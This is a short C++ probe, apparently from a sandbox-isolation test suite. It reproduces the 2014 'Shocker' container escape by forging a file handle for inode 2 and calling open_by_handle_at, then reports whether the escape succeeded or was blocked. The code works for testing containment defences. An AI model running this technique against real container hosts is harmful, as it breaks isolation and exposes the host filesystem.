// "Shocker" (2014): open_by_handle_at with a guessed file handle opens any
// inode of the filesystem, ignoring the mount the process sees. A handle for
// inode 2 (the root of an ext4 filesystem) walks out of a bind mount.
#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "probe.h"

int main() {
  // file_handle ends in a flexible array: room for 8 handle bytes after it.
  alignas(file_handle) unsigned char storage[sizeof(file_handle) + 8] = {};
  auto* handle = reinterpret_cast<file_handle*>(storage);
  handle->handle_bytes = 8;
  handle->handle_type = 1;  // FILEID_INO32_GEN
  const unsigned int root_inode = 2;
  std::memcpy(storage + sizeof(file_handle), &root_inode, sizeof root_inode);
  int mount_fd = open("/usr", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  long fd = syscall(SYS_open_by_handle_at, mount_fd, handle, O_RDONLY);
  if (fd >= 0) probe::finish(probe::kEscaped, "opened inode 2 by handle");
  probe::finish(probe::kBlocked, "open_by_handle_at: %s", probe::errno_name(errno));
}
